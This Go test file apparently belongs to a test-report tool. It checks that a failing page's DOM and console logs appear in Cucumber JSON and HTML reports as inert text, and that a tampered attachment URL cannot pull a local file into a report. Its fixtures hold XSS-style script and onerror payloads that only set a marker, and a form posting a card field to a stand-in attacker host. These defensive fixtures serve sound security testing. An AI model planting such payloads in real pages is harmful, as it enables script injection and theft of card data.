package write

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	messages "github.com/cucumber/messages/go/v21"

	"github.com/unbind/unbind/reports/internal/fake"
	"github.com/unbind/unbind/reports/record"
)

// hostileDOM is the DOM snapshot of a page that would act if a report
// rendered it: a script that marks the report page, an image whose error
// handler does the same, and a form.
const hostileDOM = `<!DOCTYPE html><html><head><title>Card list</title>` +
	`<script>document.documentElement.setAttribute("data-hostile-ran", "script")</script></head>` +
	`<body><img src="x:nowhere" onerror="document.documentElement.setAttribute('data-hostile-ran', 'onerror')">` +
	`<form id="hostile-form" action="https://attacker.invalid/steal" method="post"><input name="card"></form></body></html>`

// hostileConsole is a console log carrying markup a page wrote to it.
const hostileConsole = "error: <img src=x:nowhere onerror=\"document.documentElement.setAttribute('data-hostile-ran','console')\"> & more\n"

// hostilePageRun is a run of one failing scenario whose failing step kept the
// page's DOM and console as evidence.
func hostilePageRun() *record.Run {
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	failing := &record.Step{
		ID: "s2", Keyword: "When ", Text: `I click "Delete card"`, Line: 5, Status: record.StatusFailed,
		Started: at, Duration: time.Second, Error: `no element "Delete card"`,
		Attachments: []record.Attachment{
			{Name: "step-02-failed.png", MediaType: "image/png", Kind: record.Screenshot, Body: fake.PixelPNG},
			{Name: "step-02-failed.html", MediaType: "text/html", Kind: record.Page, Body: []byte(hostileDOM)},
			{Name: "step-02-failed-console.txt", MediaType: "text/plain", Kind: record.Console, Body: []byte(hostileConsole)},
			{Name: "step-02-quiet-console.txt", MediaType: "text/plain", Kind: record.Console, Body: []byte("warning: slow response\n")},
		},
	}
	sc := &record.Scenario{
		ID: "p1", URI: "features/hostile.feature", Keyword: "Scenario", Name: "Delete the card", Line: 3,
		Started: at, Finished: at.Add(2 * time.Second),
		Steps: []*record.Step{
			{ID: "s1", Keyword: "Given ", Text: "a buyer", Line: 4, Status: record.StatusPassed, Started: at, Duration: time.Second},
			failing,
		},
	}
	return &record.Run{
		Name: "unbind", Started: at, Finished: at.Add(3 * time.Second),
		Features: []*record.Feature{{URI: sc.URI, Keyword: "Feature", Name: "Hostile pages", Line: 1, Language: "en", Scenarios: []*record.Scenario{sc}}},
	}
}

// inertInCucumberReporters reports whether the report tools that read
// Cucumber JSON show an embedding without rendering its content as markup.
// cucumber-html-reporter inserts text/plain, text/html and application/json
// into its page unescaped and offers any type it does not know as a
// download; multiple-cucumber-html-reporter inserts text/html unescaped,
// escapes text/plain and puts types it does not know in an <object> of that
// type; Allure 3 shows text/html in a frame. So: images that cannot carry
// script, text/plain with no character that markup starts with, or opaque
// bytes.
func inertInCucumberReporters(e cukeEmbedding) bool {
	switch e.MimeType {
	case "image/png", "image/jpeg", "image/gif", "image/webp", "application/octet-stream":
		return true
	case "text/plain":
		body, err := base64.StdEncoding.DecodeString(e.Data)
		return err == nil && !bytes.ContainsAny(body, "<&")
	}
	return false
}

// TestCucumberJSONEmbedsEvidenceInertly: a page's DOM and console text reach
// the Cucumber JSON in a form no report tool renders as markup, bytes
// unchanged, each under its file name; plain text without markup stays
// text/plain, which the tools show as it is.
func TestCucumberJSONEmbedsEvidenceInertly(t *testing.T) {
	var buf bytes.Buffer
	if err := CucumberJSON(&buf, hostilePageRun(), CucumberJSONOptions{}); err != nil {
		t.Fatal(err)
	}
	var features []cukeFeature
	if err := json.Unmarshal(buf.Bytes(), &features); err != nil {
		t.Fatalf("the Cucumber JSON does not parse: %v", err)
	}
	want := map[string]string{
		"step-02-failed.png": string(fake.PixelPNG), "step-02-failed.html": hostileDOM,
		"step-02-failed-console.txt": hostileConsole, "step-02-quiet-console.txt": "warning: slow response\n",
	}
	got := map[string]cukeEmbedding{}
	for _, e := range features[0].Elements[0].Steps[1].Embeddings {
		got[e.Name] = e
		body, err := base64.StdEncoding.DecodeString(e.Data)
		switch {
		case err != nil:
			t.Errorf("embedding %s is not base64: %v", e.Name, err)
		case string(body) != want[e.Name]:
			t.Errorf("embedding %s carries %q, want %q", e.Name, body, want[e.Name])
		}
		if !inertInCucumberReporters(e) {
			t.Errorf("embedding %s is embedded as %s, which report tools render as live markup", e.Name, e.MimeType)
		}
	}
	if len(got) != len(want) {
		t.Errorf("embedded %d attachments, want %d", len(got), len(want))
	}
	if mt := got["step-02-quiet-console.txt"].MimeType; mt != "text/plain" {
		t.Errorf("a console log without markup is embedded as %s, want text/plain", mt)
	}
	if strings.Contains(buf.String(), "hostile-form") {
		t.Errorf("the DOM's markup is readable in the Cucumber JSON as it is; want it only in base64")
	}
}

// hostileView is what the report page shows of the hostile evidence.
type hostileView struct {
	Ran     string `json:"ran"`     // what a script of the evidence marked, if one ran
	Live    int    `json:"live"`    // the evidence's form and fields present as elements
	Frames  int    `json:"frames"`  // frames, objects and embeds in the report
	Shown   bool   `json:"shown"`   // the DOM's source is in the page as text
	Console bool   `json:"console"` // the console log's markup is in the page as text
}

const hostileViewJS = `(() => {
  const texts = [...document.querySelectorAll("pre")].map((p) => p.textContent);
  return {
    ran: document.documentElement.getAttribute("data-hostile-ran") || "",
    live: document.querySelectorAll("#hostile-form, input[name=card]").length,
    frames: document.querySelectorAll("iframe, frame, object, embed").length,
    shown: texts.some((t) => t.includes('<form id="hostile-form"')),
    console: texts.some((t) => t.includes("error: <img src=x:nowhere")),
  };
})()`

// TestHTMLReportShowsDOMInertly: report.html, opened in Chromium, shows a
// failing page's DOM and console as text to read: no script of theirs
// runs, no form of theirs is an element of the report, and no frame shows
// them.
func TestHTMLReportShowsDOMInertly(t *testing.T) {
	page := filepath.Join(t.TempDir(), "report.html")
	writePage(t, page, hostilePageRun(), HTMLOptions{})
	ctx := newChromium(t)
	if err := chromedp.Do(ctx, chromedp.Navigate("file://"+page)); err != nil {
		t.Fatalf("opening the report: %v", err)
	}
	v, err := chromedp.Run(ctx, chromedp.Evaluate[hostileView](hostileViewJS))
	if err != nil {
		t.Fatalf("looking at the report: %v", err)
	}
	if v.Ran != "" || v.Live != 0 || v.Frames != 0 {
		t.Errorf("the report rendered the evidence: a script of it ran (%q), %d of its elements live, %d frames", v.Ran, v.Live, v.Frames)
	}
	if !v.Shown || !v.Console {
		t.Errorf("the report shows the DOM's source as text: %v, the console's: %v; want both", v.Shown, v.Console)
	}
}

// TestReadMessagesReadsNoLocalFile: a message stream whose attachment has
// no body and points at a file of this machine (a stream made by hand, or
// tampered with) does not bring that file's content into the reports
// written from it, as `unbind report` and `unbind merge` write them.
func TestReadMessagesReadsNoLocalFile(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(secret, []byte("the-local-secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := hostilePageRun()
	var stream bytes.Buffer
	if err := record.WriteMessages(&stream, r, record.MessagesOptions{}); err != nil {
		t.Fatal(err)
	}
	fileURL := (&url.URL{Scheme: "file", Path: secret}).String()
	var tampered bytes.Buffer
	for _, line := range strings.SplitAfter(stream.String(), "\n") {
		if strings.Contains(line, `"attachment"`) && strings.Contains(line, "step-02-quiet-console.txt") {
			var e messages.Envelope
			if err := json.Unmarshal([]byte(line), &e); err != nil {
				t.Fatal(err)
			}
			e.Attachment.Body, e.Attachment.Url = "", fileURL
			b, err := json.Marshal(&e)
			if err != nil {
				t.Fatal(err)
			}
			line = string(b) + "\n"
		}
		tampered.WriteString(line)
	}
	if !strings.Contains(tampered.String(), fileURL) {
		t.Fatal("the stream has no attachment to point at the file")
	}
	back, err := record.ReadMessages(&tampered)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range writers() {
		var out bytes.Buffer
		if err := w.write(&out, back); err != nil {
			t.Fatalf("%s: %v", w.ext, err)
		}
		if strings.Contains(out.String(), "the-local-secret") || strings.Contains(out.String(), base64.StdEncoding.EncodeToString([]byte("the-local-secret"))) {
			t.Errorf("the %s report carries the content of %s", w.ext, secret)
		}
	}
}
